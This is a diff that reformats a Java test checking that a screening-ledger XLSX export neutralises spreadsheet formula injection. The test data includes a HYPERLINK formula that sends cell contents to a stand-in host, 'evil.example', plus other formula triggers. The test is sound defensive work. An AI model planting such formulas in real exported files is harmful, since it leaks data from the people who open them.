@@ -16,9 +16,9 @@ import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.hallsafe.HallSafeTest;
 import org.hallsafe.MutableClock;
 import org.hallsafe.TestHall;
+import org.hallsafe.shared.DocumentType;
 import org.hallsafe.screening.Gate.Mask;
 import org.hallsafe.screening.Gate.PersonType;
-import org.hallsafe.shared.DocumentType;
 import org.hallsafe.shared.IdNumber;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
@@ -36,20 +36,13 @@ import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.
 @HallSafeTest
 class Issue12ExportCellsTest {
 
-    private static final List<String> FORMULAS =
-            List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "@SUM(1)", "+86-1", "-2+3", "=1+1");
+    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "@SUM(1)",
+            "+86-1", "-2+3", "=1+1");
 
-    @Autowired
-    GateDesk desk;
-
-    @Autowired
-    TestHall halls;
-
-    @Autowired
-    MutableClock clock;
-
-    @Autowired
-    MockMvc mvc;
+    @Autowired GateDesk desk;
+    @Autowired TestHall halls;
+    @Autowired MutableClock clock;
+    @Autowired MockMvc mvc;
 
     @AfterEach
     void signOut() {
@@ -65,35 +58,15 @@ class Issue12ExportCellsTest {
         names.add("张三");
         for (int i = 0; i < names.size(); i++) {
             String first17 = "43090219800101" + String.format("%03d", 100 + i);
-            desk.record(
-                    hall.siteId(),
-                    new GateForm(
-                            UUID.randomUUID(),
-                            PersonType.CITIZEN,
-                            null,
-                            names.get(i),
-                            DocumentType.ID_CARD,
-                            first17 + IdNumber.checkCharacter(first17),
-                            "1371234" + String.format("%04d", i),
-                            Mask.DISPOSABLE_MEDICAL,
-                            new BigDecimal("36.5"),
-                            List.of(),
-                            true,
-                            "",
-                            null,
-                            at.plusMinutes(i),
-                            "纸质台账补录",
-                            null));
+            desk.record(hall.siteId(), new GateForm(UUID.randomUUID(), PersonType.CITIZEN, null, names.get(i),
+                    DocumentType.ID_CARD, first17 + IdNumber.checkCharacter(first17), "1371234" + String.format("%04d", i),
+                    Mask.DISPOSABLE_MEDICAL, new BigDecimal("36.5"), List.of(), true, "", null, at.plusMinutes(i),
+                    "纸质台账补录", null));
         }
         UserDetails admin = halls.signIn(hall.admin());
-        byte[] xlsx = mvc.perform(get("/screening/ledger/export.xlsx")
-                        .with(user(admin))
-                        .param("from", LocalDate.now(clock).minusDays(1).toString())
-                        .param("to", LocalDate.now(clock).toString()))
-                .andExpect(status().isOk())
-                .andReturn()
-                .getResponse()
-                .getContentAsByteArray();
+        byte[] xlsx = mvc.perform(get("/screening/ledger/export.xlsx").with(user(admin))
+                        .param("from", LocalDate.now(clock).minusDays(1).toString()).param("to", LocalDate.now(clock).toString()))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
 
         Map<String, Cell> byName = new HashMap<>();
         try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
